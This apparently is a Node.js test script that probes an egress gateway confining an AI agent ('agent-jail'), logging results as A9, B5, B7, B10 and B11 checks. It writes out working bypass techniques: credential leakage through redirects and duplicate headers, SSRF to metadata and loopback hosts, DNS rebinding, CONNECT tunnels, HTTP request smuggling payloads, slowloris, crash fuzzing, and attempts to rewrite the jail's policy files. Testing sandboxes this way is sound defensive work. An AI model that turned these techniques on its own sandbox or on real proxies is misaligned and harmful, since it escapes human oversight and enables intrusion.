// results: A9-echo A9-basic A9-tls A9-redirect A9-second A9-path A9-method A9-body A9-elsewhere B5-private B5-rebinding B7-connect B7-protocols B7-sni B7-absolute B7-hosts B7-upgrade B7-smuggling B7-headers B7-slow B10-crash B11-files
// Where the policy names hosts, one of them with a credential that the gateway puts in: everything else, by way of them.
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import { appendFileSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { PACE, result, saw } from './lib/probe.mjs';

const [OPEN, KEYED, SECRET] = ['open.world.test', 'key.world.test', 'secret.world.test'];
const KEY = process.env.KEY ?? '';
const basic = Buffer.from(`user:${KEY}`).toString('base64');
const request = (host, path, more = '', method = 'GET') =>
  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${more}\r\n`;

/** What comes back, to the end of it; an error where nothing came. */
function say(text, { host = OPEN, port = 80, sni, ms = 4000 } = {}) {
  return new Promise((resolve) => {
    let came = '';
    const socket = sni === undefined ? connect({ host, port }) : connectTls({ host, port, servername: sni, rejectUnauthorized: false });
    const end = (more = '') => {
      clearTimeout(timer);
      socket.destroy();
      resolve(came === '' ? more : came);
    };
    const timer = setTimeout(end, ms * PACE);
    socket.once(sni === undefined ? 'connect' : 'secureConnect', () => {
      for (const part of [text].flat()) socket.write(part, 'latin1');
    });
    socket
      .on('data', (chunk) => (came += chunk.toString('latin1')))
      .once('error', ({ code }) => end(code))
      .once('close', () => end());
  });
}
const OK = /^HTTP\/1\.1 200 /;
/** Something answered that is not the gateway, which refuses. */
const served = (came) => came !== '' && /^HTTP\/1\.1 [123]|^(?!HTTP\/|E[A-Z])/s.test(came);
const must = (came, pattern) => {
  if (!pattern.test(came)) throw new Error(`the method does not work: ${JSON.stringify(came.slice(0, 200))}`);
  return came;
};
const tell = (id, texts) => {
  for (const text of texts) saw(id, text);
  result(id, ...texts.filter((text) => /canary-/.test(text)).map(() => 'the value came back'));
};

// The plain canary comes back from a server outside: so the way out works, and reading the answer does.
saw('A9-elsewhere', must(await say(request(OPEN, `/${process.env.RT_PLAIN}`)), OK));

const keyed = (path, more, method) => say(request(KEYED, path, more, method), { host: KEYED });
tell('A9-echo', [must(await keyed('/v1/echo', `x-api-key: ${KEY}\r\n`), /^HTTP\/1\.1 200 [^]*"x-api-key":"/)]);
tell('A9-basic', [must(await keyed('/v1/echo', `Authorization: Basic ${basic}\r\n`), OK)]);
tell('A9-tls', [must(await say(request(KEYED, '/v1/echo', `x-api-key: ${KEY}\r\n`), { host: KEYED, port: 443, sni: KEYED }), OK)]);
const to = (host) => `/v1/../redirect?to=${encodeURIComponent(`http://${host}/v1/x`)}`;
const redirects = [
  await keyed('/redirect?to=http%3A%2F%2Fopen.world.test%2Fv1%2Fx', `x-api-key: ${KEY}\r\n`),
  await keyed(to(OPEN), `x-api-key: ${KEY}\r\n`),
];
tell('A9-redirect', [...redirects, await say(request(OPEN, '/v1/x', `x-api-key: ${KEY}\r\n`))]);
tell('A9-second', [
  await keyed('/v1/x', `x-api-key: ${KEY}\r\nx-api-key: mine\r\n`),
  await keyed('/v1/x', `Authorization: Bearer mine\r\nx-api-key: ${KEY}\r\n`),
]);
tell(
  'A9-path',
  await Promise.all(
    ['/v2', '/v1/../v2', '/v1%2f..%2fv2', '//v1/x', `/v1/x?key=${KEY}`].map((path) => keyed(path, `x-api-key: ${KEY}\r\n`)),
  ),
);
tell('A9-method', [
  await keyed('/v1/x', `x-api-key: ${KEY}\r\n`, 'DELETE'),
  await keyed('/v1/x', `x-api-key: ${KEY}\r\nX-HTTP-Method-Override: DELETE\r\n`),
]);
tell('A9-body', [must(await keyed('/v1/x', `Content-Length: ${KEY.length}\r\n\r\n${KEY}`, 'POST'), /"body":"./)]);
tell('A9-elsewhere', [must(await say(request(OPEN, '/', `x-api-key: ${KEY}\r\nAuthorization: Basic ${basic}\r\n`)), /"x-api-key":"./)]);

const inner = ['private', 'metadata', 'loopback', 'carrier'].map((name) => `${name}.world.test`);
const answers = await Promise.all(
  inner.flatMap((host) => [say(request(host, '/'), { host }), say(request(host, '/'), { host, port: 443, sni: host })]),
);
result('B5-private', ...answers.filter(served).map((came) => `served: ${came.slice(0, 40)}`));
const moves = 'moves.world.test';
must(await say(request(moves, '/'), { host: moves }), OK);
for (let n = 0; n < 5; n += 1) await say(request(moves, '/'), { host: moves }); // the host knows where they went
result('B5-rebinding');

const reached = async (id, tries) =>
  result(id, ...(await Promise.all(tries)).filter(served).map((came) => JSON.stringify(came.slice(0, 60))));
await reached(
  'B7-connect',
  [22, 443].flatMap((port) => [OPEN, SECRET].map((host) => say(`CONNECT ${host}:${port} HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`))),
);
const others = [
  'SSH-2.0-x\r\n',
  'EHLO x\r\n',
  '0032git-upload-pack /tiny.git\0host=open.world.test\0',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\x05\x01\0',
  '*1\r\n$4\r\nPING\r\n',
];
await reached(
  'B7-protocols',
  others.flatMap((text) => [80, 443].map((port) => say(text, { port, ms: 7000 }))),
);
await reached('B7-sni', [
  say(request(SECRET, '/'), { port: 443, sni: SECRET }),
  say(request(OPEN, '/'), { port: 443, sni: 'nobody.test' }),
  say(request(OPEN, '/'), { port: 443, sni: '' }),
  say(request(SECRET, '/'), { host: KEYED, port: 443, sni: KEYED }),
  say(request(OPEN, '/'), { host: KEYED, port: 443, sni: KEYED }),
]);
await reached(
  'B7-absolute',
  ['http://secret.world.test/', 'http://open.world.test@secret.world.test/', 'https://secret.world.test:80/'].map((target) =>
    say(request(OPEN, target)),
  ),
);
await reached('B7-hosts', [
  say(request(SECRET, '/')),
  say(request(OPEN, '/', `Host: ${SECRET}\r\n`)),
  say(request(OPEN, '/', `Host : ${SECRET}\r\n`)),
  say(request(`${OPEN}\t${SECRET}`, '/')),
  say(`GET / HTTP/1.1\r\nConnection: close\r\n\r\n`),
]);
await reached('B7-upgrade', [
  say(
    request(SECRET, '/', 'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n').replace(
      'close',
      'Upgrade',
    ),
  ),
  say(request(SECRET, '/', 'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n').replace('close', 'Upgrade, HTTP2-Settings')),
]);
const hidden = `GET /smuggled HTTP/1.1\r\nHost: ${SECRET}\r\n\r\n`;
const framings = [
  'Content-Length: 3\r\nTransfer-Encoding: chunked\r\n',
  'Transfer-Encoding: xchunked\r\n',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n',
  'Content-Length: 0\r\nContent-Length: 9\r\n',
  'X: a\r\n Content-Length: 9\r\n',
  'Content-Length: +0\r\n',
];
const smuggled = await Promise.all(framings.map((more) => say(`POST / HTTP/1.1\r\nHost: ${OPEN}\r\n${more}\r\n0\r\n\r\n${hidden}`)));
result('B7-smuggling', ...smuggled.filter((came) => came.includes('"url":"/smuggled"')).map(() => 'the second request was served'));
await reached('B7-headers', [
  say(request(OPEN, '/', `X: ${'x'.repeat(1 << 20)}\r\n`)),
  say(request(OPEN, '/', 'X: y\r\n'.repeat(100_000))),
]);

{
  let holds = true;
  const socket = connect({ host: OPEN, port: 80 }).on('error', () => {});
  const closed = new Promise((resolve) => socket.once('close', resolve)).then(() => (holds = false));
  const drip = setInterval(() => socket.write('G'), 300);
  must(await say(request(OPEN, '/')), OK); // others are served meanwhile
  await Promise.race([closed, sleep(8500 * PACE)]);
  clearInterval(drip);
  result('B7-slow', ...(holds ? ['a request that never ends holds its connection'] : []));
  socket.destroy();
}
{
  const noise = (length) => Buffer.from(Array.from({ length }, () => Math.random() * 256)).toString('latin1');
  const udp = createSocket('udp4');
  for (let n = 0; n < 500; n += 1) udp.send(Buffer.from(noise(1 + (n % 300)), 'latin1'), 53, '127.0.0.1');
  await Promise.all(Array.from({ length: 200 }, (_, n) => say([noise(1 + n), noise(20)], { port: n % 2 === 0 ? 80 : 443, ms: 300 })));
  await sleep(50 * PACE);
  udp.close();
  must(await say(request(OPEN, '/')), OK);
  const found = await lookup(SECRET).catch(() => null);
  result('B10-crash', ...(found === null ? [] : ['a denied name has an address now']));
}
{
  const rule = { host: SECRET, ports: [80, 443] };
  const escaped = [];
  for (const file of ['policy.json', 'apt.conf', 'step-0.sh']) {
    const path = join('/run/agent-jail', file);
    for (const act of [() => appendFileSync(path, ' '), () => rmSync(path)]) {
      try {
        act();
        escaped.push(`${file} could be changed`);
      } catch {}
    }
  }
  const told = JSON.parse(readFileSync('/run/agent-jail/policy.json', 'utf8'));
  if (JSON.stringify(told).includes(SECRET)) escaped.push('it names the host');
  for (const file of ['.agent-jail.yml', '.github/agent-jail.yml', 'policy.yml']) {
    try {
      writeFileSync(file, JSON.stringify({ network: [rule] }));
    } catch {}
  }
  if ((await lookup(SECRET).catch(() => null)) !== null) escaped.push('a denied name has an address now');
  result('B11-files', ...escaped);
}
process.exit(0);
